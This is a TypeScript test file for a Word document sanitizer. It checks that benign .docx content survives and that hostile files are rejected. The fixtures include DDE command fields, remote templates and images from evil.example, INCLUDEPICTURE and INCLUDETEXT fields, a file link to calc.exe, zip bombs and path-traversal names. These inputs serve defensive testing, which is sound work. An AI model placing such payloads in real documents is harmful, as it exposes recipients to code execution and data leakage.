import { docxParts, html, makeDocx, makeZip, relation } from '#test/fixtures/attachment-files.ts'
import { unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { sanitizeDocx } from './sanitize-docx.ts'

const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const png = Buffer.from('\x89PNG\r\n\x1a\n rest', 'latin1')
const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'

const body = (content: string, namespaces = '') =>
  `${xml}<w:document xmlns:w="${main}" ${namespaces}><w:body><w:p>${content}</w:p></w:body></w:document>`
const withBody = (content: string, namespaces?: string) =>
  makeDocx([{ name: 'word/document.xml', content: body(content, namespaces) }])
const relationships = (list: string) =>
  `${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`
const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
const one = (type: string, target: string, mode = '', id = 'rId1') =>
  `<Relationship Id="${id}" Type="${officeType}${type}" Target="${target}"${mode}/>`
const external = ' TargetMode="External"'
/** A field of several runs, as Word writes it. */
const field = (...instruction: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction
    .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

const partsOf = (file: Buffer) =>
  Object.fromEntries(
    Object.entries(unzipSync(file)).map(([name, bytes]) => [name, Buffer.from(bytes).toString()]),
  )

describe('a benign Word document', () => {
  it('keeps the text, styles, pictures, links and fields that Word writes', async () => {
    const text = body(
      `${field(' PAGE ', '\\* MERGEFORMAT')}<w:fldSimple w:instr=" NUMPAGES "/><w:hyperlink r:id="rId2"><w:r><w:t>링크</w:t></w:r></w:hyperlink><mc:AlternateContent><mc:Choice Requires="wps"><w:r/></mc:Choice></mc:AlternateContent><w:bookmarkStart w:id="0" w14:x="1"/>`,
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" mc:Ignorable="w14"',
    )
    const styles = `${xml}<w:styles xmlns:w="${main}"/>`
    const theme = `${xml}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"><a:extLst><a:ext uri="x"><thm15:themeFamily xmlns:thm15="http://schemas.microsoft.com/office/thememl/2012/main"/></a:ext></a:extLst></a:theme>`
    const file = makeDocx([
      { name: 'word/document.xml', content: text },
      { name: 'word/styles.xml', content: styles },
      { name: 'word/theme/theme1.xml', content: theme },
      { name: 'word/media/image1.png', content: png, stored: true },
      { name: 'docProps/core.xml', content: '<author>김한편</author>' },
      { name: 'customXml/item1.xml', content: '<anything/>' },
      {
        name: '_rels/.rels',
        content: relationships(
          `${one('officeDocument', 'word/document.xml')}<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>`,
        ),
      },
      {
        name: 'word/_rels/document.xml.rels',
        content: relationships(
          one('styles', 'styles.xml') +
            one('hyperlink', 'https://example.com/?a=1&amp;b=2', external, 'rId2') +
            one('image', 'media/image1.png', '', 'rId3') +
            one('theme', '/word/theme/theme1.xml', '', 'rId4') +
            one('customXml', '../customXml/item1.xml', '', 'rId5'),
        ),
      },
    ])
    const parts = partsOf(await sanitizeDocx(file))
    expect(Object.keys(parts).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
      'word/media/image1.png',
      'word/styles.xml',
      'word/theme/theme1.xml',
    ])
    expect(parts['word/document.xml']).toBe(text)
    expect(parts['word/_rels/document.xml.rels']).toContain('https://example.com/?a=1&amp;b=2')
    expect(parts['word/_rels/document.xml.rels']).not.toContain('customXml')
    expect(parts['[Content_Types].xml']).toContain('PartName="/word/media/image1.png"')
  })

  it('gives the same result when sanitized again', async () => {
    const once = await sanitizeDocx(makeDocx())
    expect(partsOf(await sanitizeDocx(once))).toEqual(partsOf(once))
  })

  it('accepts names in another case and the strict namespaces of Hancom and LibreOffice', async () => {
    const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships/'
    const file = makeDocx([
      {
        name: 'word/document.xml',
        content: `${xml}<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"><body><p><r><t>안녕</t></r></p></body></document>`,
      },
      {
        name: '_RELS/.RELS',
        content: relationships(
          `<Relationship Id="a" Type="${strict}officeDocument" Target="Word/Document.xml"/>`,
        ),
      },
    ])
    const parts = docxParts().filter(({ name }) => name === '_rels/.rels')
    expect(parts).toHaveLength(1)
    // Otherwise the archive would contain both names.
    const only = makeZip([
      ...docxParts().filter(({ name }) => name === '[Content_Types].xml'),
      { name: 'word/document.xml', content: body('') },
      {
        name: '_RELS/.RELS',
        content: relationships(
          `<Relationship Id="a" Type="${strict}officeDocument" Target="Word/Document.xml"/>`,
        ),
      },
    ])
    expect(Object.keys(partsOf(await sanitizeDocx(only)))).toContain('word/document.xml')
    await expect(sanitizeDocx(file)).rejects.toThrow('two entries of one name')
  })

  it('drops data in the comment of the archive or without a relationship', async () => {
    for (const file of [
      makeZip(docxParts(), html),
      makeDocx([{ name: 'word/media/a.png', content: html }]),
      makeDocx([{ name: 'word/printerSettings/printerSettings1.bin', content: html }]),
    ])
      expect((await sanitizeDocx(file)).includes('onload')).toBe(false)
  })
})

describe('a hostile Word document', () => {
  const rels = 'word/_rels/document.xml.rels'
  const withRelations = (list: string, name = rels) =>
    makeDocx([{ name, content: relationships(list) }])
  /** Adds relationships to the settings part under the given name. */
  const template = (name: string, content: string | Buffer) =>
    makeDocx([
      { name: 'word/settings.xml', content: `${xml}<w:settings xmlns:w="${main}"/>` },
      { name: rels, content: relationships(one('settings', 'settings.xml')) },
      { name, content },
    ])
  const attached = one('attachedTemplate', 'https://evil.example/', external)
  const settingsRels = 'word/_rels/settings.xml.rels'
  const bomb = Buffer.alloc(70 * 1024 * 1024)

  it.each<[string, Buffer]>([
    ['macros', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
    ['a control', makeDocx([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])],
    ['an object', makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    ['a program', makeDocx([{ name: 'word/media/a.EXE', content: 'x' }])],
    ['a page', makeDocx([{ name: 'word/afchunk.html', content: html }])],
    [
      'a content type with macros',
      makeDocx([
        {
          name: '[Content_Types].xml',
          content: String(docxParts()[0]?.content).replace(
            '</Types>',
            '<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
          ),
        },
      ]),
    ],
    ['a template from elsewhere', template(settingsRels, relationships(attached))],
    [
      'a template in upper-case relationships',
      template('word/_RELS/SETTINGS.XML.RELS', relationships(attached)),
    ],
    [
      'a template in prefixed relationships',
      template(
        settingsRels,
        `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="a" Type="${officeType}attachedTemplate" Target="https://evil.example/" TargetMode="External"/></p:Relationships>`,
      ),
    ],
    [
      'a template with escaped letters',
      template(
        settingsRels,
        relationships(one('attachedTemplate', 'x', " TargetMode='&#69;xternal'")),
      ),
    ],
    [
      'relationships in UTF-16',
      template(settingsRels, Buffer.from(`\ufeff${relationships(attached)}`, 'utf16le')),
    ],
    [
      'relationships in a declared encoding',
      template(settingsRels, relationships(attached).replace('UTF-8', 'UTF-7')),
    ],
    [
      'a picture from elsewhere',
      withRelations(one('image', 'https://evil.example/a.png', external)),
    ],
    ['a link to a local file', withRelations(one('hyperlink', 'file:///c:/windows', external))],
    [
      'an external part of a kind that is left out',
      withRelations(one('customXml', 'https://evil.example/', external)),
    ],
    ['another file within', withRelations(one('aFChunk', 'x.mht'))],
    ['a subdocument', withRelations(one('subDocument', 'styles.xml'))],
    ['an unknown relationship', withRelations(one('unheard', 'styles.xml'))],
    [
      'an unknown relationship namespace',
      withRelations(
        '<Relationship Id="a" Type="https://evil.example/styles" Target="styles.xml"/>',
      ),
    ],
    ['a relationship to nothing', withRelations(one('styles', 'styles.xml'))],
    [
      'a picture that is none',
      makeDocx([
        { name: rels, content: relationships(one('image', 'media/a.png')) },
        { name: 'word/media/a.png', content: html },
      ]),
    ],
    // file-type names what follows an ID3 tag or a byte order mark.
    ...['ID3\x03\0\0\0\0\0\0', '\xef\xbb\xbf'].map((start): [string, Buffer] => [
      `a picture behind ${JSON.stringify(start)}`,
      makeDocx([
        { name: rels, content: relationships(one('image', 'media/a.png')) },
        {
          name: 'word/media/a.png',
          content: Buffer.concat([Buffer.from(start, 'latin1'), png]),
        },
      ]),
    ]),
    [
      'entities',
      makeDocx([
        {
          name: 'word/document.xml',
          content: `<!DOCTYPE a [<!ENTITY b "c">]>${body('&amp;').replace(xml, '')}`,
        },
      ]),
    ],
    [
      'a stylesheet',
      makeDocx([
        {
          name: 'word/document.xml',
          content: body('').replace(xml, `${xml}<?xml-stylesheet href="a.xsl"?>`),
        },
      ]),
    ],
    ['malformed XML', withBody('<w:r>')],
    ['a namespace of its own', withBody('<x:a/>', 'xmlns:x="https://evil.example/"')],
    ['DDE in a field', withBody(field('DDE', 'AUTO c:\\\\cmd'))],
    ['DDE in an attribute', withBody('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/>')],
    [
      'DDE in an attribute of another prefix',
      withBody('<z:fldSimple z:instr=" dde a b"/>', `xmlns:z="${main}"`),
    ],
    [
      'DDE within another field',
      withBody(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>${field('DDE a')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ],
    [
      'a field whose name is computed',
      withBody(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ],
    [
      'a field without its end',
      withBody(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a</w:instrText></w:r>',
      ),
    ],
    ['an instruction outside of a field', withBody('<w:r><w:instrText>DDE a</w:instrText></w:r>')],
    ['a picture of a field', withBody(field(' INCLUDEPICTURE "https://evil.example/a.png" \\d '))],
    ['text of another file', withBody(field('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))],
    [
      'a link of a field to a local file',
      withBody(field('HYPERLINK "file:///c:/windows/system32/calc.exe"')),
    ],
    ['a macro button', withBody(field('MACROBUTTON Run click'))],
    ['an embedded object', withBody('<w:object/>')],
    ['a form macro', withBody('<w:entryMacro w:val="a"/>')],
    [
      'a video of another site',
      withBody(
        '<x:webVideoPr embeddedHtml="a"/>',
        'xmlns:x="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"',
      ),
    ],
    [
      'a VML picture from elsewhere',
      withBody(
        '<v:imagedata src="https://evil.example/a"/>',
        'xmlns:v="urn:schemas-microsoft-com:vml"',
      ),
    ],
    [
      'a VML picture that Office loads',
      withBody(
        '<v:shape o:althref="https://evil.example/a"/>',
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"',
      ),
    ],
    [
      'a part that inflates beyond all bounds',
      makeDocx([{ name: 'word/media/a.png', content: bomb }]),
    ],
    [
      'many parts that inflate',
      makeDocx(
        Array.from({ length: 5 }, (_, at) => ({
          name: `word/media/${at}.png`,
          content: bomb.subarray(0, 15 * 1024 * 1024),
        })),
      ),
    ],
    [
      'a part that is packed otherwise',
      makeDocx([{ name: 'word/media/a.png', content: 'x', claims: { method: 12 } }]),
    ],
    [
      'a part with a password',
      makeDocx([{ name: 'word/media/a.png', content: png, claims: { flags: 1 } }]),
    ],
    ...([3, 100] as const).map((size): [string, Buffer] => [
      `a part that claims ${size} bytes`,
      makeDocx([{ name: 'word/media/a.png', content: png, claims: { size } }]),
    ]),
    [
      'more than 2,000 parts',
      makeDocx(
        Array.from({ length: 2_000 }, (_, at) => ({ name: `word/media/${at}.png`, content: '' })),
      ),
    ],
    ['data after the archive', Buffer.concat([makeDocx(), Buffer.from('more')])],
    ['data before the archive', Buffer.concat([Buffer.from('PK\x03\x04'), makeDocx()])],
    ['a name with a control', makeDocx([{ name: 'word/media/a\x01.png', content: png }])],
    ['a name with a stream of NTFS', makeDocx([{ name: 'word/media/a:b.png', content: png }])],
    ['a part outside of the archive', makeDocx([{ name: '../../a.png', content: 'x' }])],
    ['a part from the root', makeDocx([{ name: '/etc/passwd', content: 'x' }])],
    ['a part of Windows', makeDocx([{ name: 'word\\..\\a.png', content: 'x' }])],
    [
      'two parts of a name',
      makeZip([...docxParts(), { name: 'WORD/document.xml', content: body('') }]),
    ],
    [
      'two parts of the same name',
      makeZip([...docxParts(), { name: 'word/document.xml', content: body('') }]),
    ],
    ['the front of an archive', makeDocx().subarray(0, 200)],
    ['no document', makeZip(docxParts().filter(({ name }) => name !== 'word/document.xml'))],
    ['a workbook', makeZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }])],
    ['an empty archive', makeZip([])],
    [
      'relationships of another package',
      makeDocx([
        { name: '_rels/.rels', content: relation('officeDocument', 'word/document.xml', external) },
      ]),
    ],
  ])('is refused for %s', async (_, file) => {
    await expect(sanitizeDocx(file)).rejects.toThrow()
  })
})
